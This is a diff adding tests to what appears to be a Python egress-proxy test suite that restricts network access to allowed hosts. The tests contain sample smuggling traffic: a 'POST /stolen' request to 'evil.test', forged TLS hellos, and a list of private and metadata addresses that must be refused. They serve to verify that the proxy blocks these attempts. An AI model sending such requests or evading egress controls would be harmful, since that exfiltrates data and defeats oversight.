@@ -3,6 +3,7 @@
 import asyncio
 import base64
 import contextlib
+import socket
 import ssl
 import stat
 import subprocess
@@ -258,7 +259,7 @@ async def test_a_tunnel_to_an_allowed_name_cannot_speak_to_another(path: Path) -
         far_server(far) as port,
         EgressProxy(path, [f"https://index.example.com:{port}"], upstream=Upstream(resolve=loopback)) as proxy,
     ):
-        for first in (client_hello("evil.test"), b"SSH-2.0-x\r\n", b"\x16\x03\x01\xff\xff"):
+        for first in (client_hello("evil.test"), client_hello(None), b"SSH-2.0-x\r\n", b"\x16\x03\x01\xff\xff"):
             reader, writer, head = await tunnel(path, f"index.example.com:{port}")
             assert head.startswith(b"HTTP/1.1 200 ")
             writer.write(first)
@@ -266,6 +267,27 @@ async def test_a_tunnel_to_an_allowed_name_cannot_speak_to_another(path: Path) -
             writer.close()
     assert not heard.is_set()
     assert proxy.refused == ["evil.test"]
+
+
+async def test_a_tunnel_to_a_host_of_the_repository_must_be_tls_at_any_port(path: Path) -> None:
+    upstream = ChainedProxy(b"HTTP/1.1 200 fine\r\n\r\n")
+    async with (
+        far_server(upstream) as port,
+        EgressProxy(path, ["cdn.example.com"], upstream=Upstream(f"http://127.0.0.1:{port}", resolve=public)),
+    ):
+        reader, writer, _ = await tunnel(path, "cdn.example.com:80")
+        writer.write(b"POST /stolen HTTP/1.1\r\nHost: evil.test\r\n\r\n")
+        assert await reader.read(-1) == b""
+        writer.close()
+
+
+async def test_a_tunnel_to_an_address_needs_no_name(path: Path) -> None:
+    hello = client_hello(None)
+    async with far_server(echo) as port, EgressProxy(path, [f"https://127.0.0.1:{port}"]):
+        reader, writer, _ = await tunnel(path, f"127.0.0.1:{port}")
+        writer.write(hello)
+        assert await reader.readexactly(len(hello)) == hello
+        writer.close()
 
 
 async def test_a_tunnel_carries_the_handshake_it_has_looked_at_unchanged(path: Path) -> None:
@@ -456,6 +478,30 @@ async def test_an_upstream_proxy_is_chained_to_with_its_credentials(path: Path) 
     assert basic in get
 
 
+async def test_an_upstream_proxy_is_not_asked_for_a_private_address(path: Path) -> None:
+    upstream = ChainedProxy(b"HTTP/1.1 200 fine\r\n\r\n")
+    async with far_server(upstream) as port:
+        machine = Upstream(f"http://127.0.0.1:{port}", resolve=loopback)
+        async with EgressProxy(path, ["10-0-0-5.example.com"], upstream=machine) as proxy:
+            for head in (b"GET http://10-0-0-5.example.com/", b"CONNECT 10-0-0-5.example.com:443"):
+                assert b"private address" in await talk(path, head + b" HTTP/1.1\r\n\r\n")
+    assert proxy.refused == ["10-0-0-5.example.com"]
+    assert upstream.heads == []
+
+
+async def test_an_upstream_proxy_resolves_what_this_machine_cannot(path: Path) -> None:
+    async def unknown(_host: str, _port: int) -> list[str]:
+        raise socket.gaierror(socket.EAI_NONAME, "unknown")
+
+    upstream = ChainedProxy(b"HTTP/1.1 200 fine\r\n\r\n")
+    async with far_server(upstream) as port:
+        machine = Upstream(f"http://127.0.0.1:{port}", resolve=unknown)
+        async with EgressProxy(path, ["example.com"], upstream=machine):
+            _, writer, head = await tunnel(path, "example.com:443")
+            writer.close()
+    assert head.startswith(b"HTTP/1.1 200 ")
+
+
 async def test_an_upstream_proxy_that_refuses_is_quoted(path: Path) -> None:
     async with (
         far_server(ChainedProxy(b"HTTP/1.1 407 who are you\r\n\r\n")) as port,
@@ -501,7 +547,7 @@ def test_proxy_that_is_not_an_http_proxy_is_named() -> None:
 NO_PUBLIC_HOST = """
 * *.com *.*.com a.*.com localhost a.local x.internal 127.0.0.1 10.0.0.1 169.254.169.254 [::1] ::1 2130706433 0x7f.0.0.1
 example.com:0 example.com:70000 example.com:x example.com/path user@example.com ftp://example.com https:// https://*.com
-exämple.com -a.com a..com http://exämple.com
+x.intranet x.onion exämple.com -a.com a..com http://exämple.com
 """
 
 
@@ -554,6 +600,10 @@ def test_which_addresses_are_public(address: str, *, public: bool) -> None:
     parsed = address_of(address)
     assert parsed is not None
     assert is_public(parsed) is public
+
+
+async def public(_host: str, _port: int) -> list[str]:
+    return ["93.184.216.34"]
 
 
 async def loopback(_host: str, _port: int) -> list[str]:
